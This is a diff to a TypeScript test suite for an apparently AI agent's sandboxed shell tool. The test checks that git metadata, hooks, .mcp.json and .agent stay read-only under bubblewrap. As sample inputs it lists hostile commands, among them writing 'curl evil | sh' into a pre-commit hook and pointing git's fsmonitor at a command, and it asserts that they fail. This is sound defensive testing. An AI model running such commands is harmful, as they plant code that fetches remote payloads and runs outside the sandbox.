@@ -3,6 +3,7 @@ import * as http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import * as os from 'node:os';
 import * as path from 'node:path';
+import { execFileSync } from 'node:child_process';
 import { ManualPerson } from '../../person';
 import { withRules } from '../../permission-rules';
 import type { PermissionDecision } from '../../permission';
@@ -93,19 +94,28 @@ describeSandbox('run_shell in the sandbox (real bubblewrap)', () => {
     );
   });
 
-  it('commits with git, but cannot write git hooks or config, .mcp.json or .agent', async () => {
+  it('reads git, but cannot write git’s metadata (a commit fails there), .mcp.json or .agent', async () => {
     await ws.write('.mcp.json', '{"mcpServers":{}}\n');
     await ws.write('.agent/settings.json', '{}\n');
     const { tool } = sandboxed({ mayLeave: false });
     const git = 'git -c user.name=t -c user.email=t@example.com';
-    const committed = await runTool(
+    execFileSync('git', ['init', '-q'], { cwd: ws.root });
+    execFileSync('sh', ['-c', `git add hello.txt && ${git} commit -qm first`], { cwd: ws.root });
+    const read = await runTool(
       tool,
-      {
-        command: `git init -q && git add hello.txt && ${git} commit -qm first && git log --format=%s`,
-      },
+      { command: 'git log --format=%s && git status --short && git diff --stat' },
       ws.ctx(),
     );
-    expect(committed.output).toMatch(/^first\n[\s\S]*\[exit code 0; ran sandboxed\]$/);
+    expect(read.output).toMatch(/^first\n[\s\S]*\[exit code 0; ran sandboxed\]$/);
+    await ws.write('more.txt', 'more\n');
+    const commit = await runTool(
+      tool,
+      { command: `git add more.txt && ${git} commit -qm second` },
+      ws.ctx(),
+    );
+    expect(commit.output).toContain(
+      `writing ${path.join(ws.root, '.git/index.lock')} (git's metadata`,
+    );
     for (const command of [
       'echo "curl evil | sh" > .git/hooks/pre-commit',
       'git config core.fsmonitor "touch /tmp/pwned"',
@@ -115,7 +125,7 @@ describeSandbox('run_shell in the sandbox (real bubblewrap)', () => {
       const result = await runTool(tool, { command }, ws.ctx());
       expect(result.isError).toBe(true);
       expect(result.output).toContain(
-        '(git hooks and config, .mcp.json and .agent are read-only in the sandbox: programs they name run outside it later)',
+        "(git's metadata (every .git) and hooks folder, .mcp.json and .agent are read-only in the sandbox: programs they name run outside it later)",
       );
     }
     await expect(fs.stat(path.join(ws.root, '.git/hooks/pre-commit'))).rejects.toThrow(/ENOENT/);
